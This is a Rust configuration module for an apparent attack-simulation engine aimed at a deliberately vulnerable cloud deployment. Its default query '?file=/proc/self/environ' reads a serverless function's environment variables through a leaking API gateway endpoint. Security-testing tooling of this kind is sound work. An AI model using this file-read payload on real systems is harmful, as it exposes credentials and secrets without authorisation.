//! Engine configuration
//!
//! Every field can come from the environment, matching how the service is
//! deployed next to the vulnerable target.

use clap::{Args, Parser, Subcommand};

#[derive(Parser, Debug)]
#[command(name = "engine")]
#[command(author, version, about = "Lornu AI Attack Path Engine", long_about = None)]
pub struct Cli {
    #[command(flatten)]
    pub config: EngineConfig,

    #[command(subcommand)]
    pub command: Option<Command>,
}

#[derive(Subcommand, Debug, Clone, Copy, PartialEq, Eq)]
pub enum Command {
    /// Serve the HTTP trigger (default)
    Serve,
    /// Execute one attack path and print the report
    Run,
}

/// Configuration passed explicitly into every run
#[derive(Args, Debug, Clone)]
pub struct EngineConfig {
    /// Target region
    #[arg(long, env = "REGION", default_value = "us-east-1")]
    pub region: String,

    /// Base URL of the leaking API gateway endpoint
    #[arg(long, env = "AGW_URL")]
    pub agw_url: String,

    /// Query appended to the gateway URL to read the function environment
    #[arg(long, env = "LEAK_QUERY", default_value = "?file=/proc/self/environ")]
    pub leak_query: String,

    /// Only process this audit trail
    #[arg(long = "trail-name", env = "CT_NAME")]
    pub trail_name: Option<String>,

    /// HTTP listen port
    #[arg(long, env = "PORT", default_value_t = 4200)]
    pub port: u16,
}

impl EngineConfig {
    /// URL reported as `EndpointURLTargeted`
    pub fn leak_source_url(&self) -> String {
        format!("{}{}", self.agw_url, self.leak_query)
    }

    /// Trail hint, ignoring blank values
    pub fn trail_hint(&self) -> Option<&str> {
        self.trail_name
            .as_deref()
            .map(str::trim)
            .filter(|name| !name.is_empty())
    }
}
